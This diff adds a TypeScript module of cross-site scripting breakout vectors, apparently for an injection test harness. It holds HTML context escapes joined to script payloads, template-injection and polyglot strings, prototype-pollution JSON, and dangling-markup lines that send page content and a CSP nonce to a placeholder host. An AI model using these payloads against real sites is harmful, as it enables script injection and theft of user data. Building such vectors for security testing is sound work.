@@ -1,0 +1,90 @@
+const PAYLOADS = ['<img src=x onerror=RUN>', '<script>RUN</script>'] as const;
+
+/** What ends the place that a text stands in: attributes, elements that hold text, comments, scripts, style sheets. */
+const ENDS: readonly string[] = [
+  '"',
+  "'",
+  '`',
+  '">',
+  "'>",
+  '" autofocus tabindex=1 onfocus=RUN x="',
+  "' autofocus tabindex=1 onfocus=RUN x='",
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '</script\t>',
+  '</SCRIPT >',
+  '</noscript>',
+  '</template>',
+  '</option></select>',
+  '</p></div></body></html>',
+  '-->',
+  '--!>',
+  '*/',
+  ']]>',
+  '<!--<script>',
+  '<!--</script>',
+  '<!--<script></script>--></script>',
+  '\u2028',
+  '\u2029',
+];
+
+/** What runs where a text was pasted into a script or a template. */
+const IN_SCRIPT: readonly string[] = [
+  '";RUN;//',
+  "';RUN;//",
+  '`;RUN;//',
+  '\\";RUN;//',
+  "\\';RUN;//",
+  '"-RUN-"',
+  "'-RUN-'",
+  '"+RUN+"',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for a template that reads it
+  '${RUN}',
+  '{{RUN}}',
+  "{{constructor.constructor('RUN')()}}",
+  '{{$on.constructor("RUN")()}}',
+  '<%= RUN %>',
+  '#{RUN}',
+  '[[RUN]]',
+  '$R[0]=RUN',
+  '"}],"p":{"k":["x"],"v":[RUN]}}',
+  '\u2028RUN//',
+  '\u2029;RUN//',
+  '\n;RUN;\n',
+  '"\n;RUN;\n"',
+  '\\u0022;RUN;//',
+  '\\x22;RUN;//',
+  '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}',
+  '{"constructor":{"prototype":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}}',
+  '__proto__[innerHTML]=<img src=x onerror=RUN>',
+  '{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"RUN"}}',
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
+  'javascript:RUN//</title></style></textarea></script>--><svg onload=RUN>',
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>',
+];
+
+/** Markup left open, so that what follows it on the page, a nonce perhaps, goes along to somebody. */
+const DANGLING: readonly string[] = [
+  "<img src='//TRAP/?RUN",
+  '<img src="//TRAP/?RUN',
+  '<form action=//TRAP/><textarea name=RUN>',
+  '<form action=//TRAP/><button>RUN<select name=x><option>',
+  "<a href='//TRAP/?RUN",
+  "<base target='RUN",
+  "<meta http-equiv=refresh content='0;url=//TRAP/?RUN",
+  "<style>@import'//TRAP/?RUN",
+  '<script src=//TRAP/RUN.js ',
+  "<link rel=stylesheet href='//TRAP/?RUN",
+  '<script>/*RUN*/</script a="',
+  '<iframe src=about:blank name="RUN',
+  '<script nonce>fetch("//TRAP/"+document.querySelector("[nonce]").nonce),RUN</script>',
+  '<style>script[nonce^=a]{background:url(//TRAP/RUN)}</style>',
+];
+
+export const BREAKOUT_VECTORS: readonly string[] = [
+  ...ENDS.flatMap((end) => PAYLOADS.map((payload) => end + payload)),
+  ...IN_SCRIPT,
+  ...DANGLING,
+];
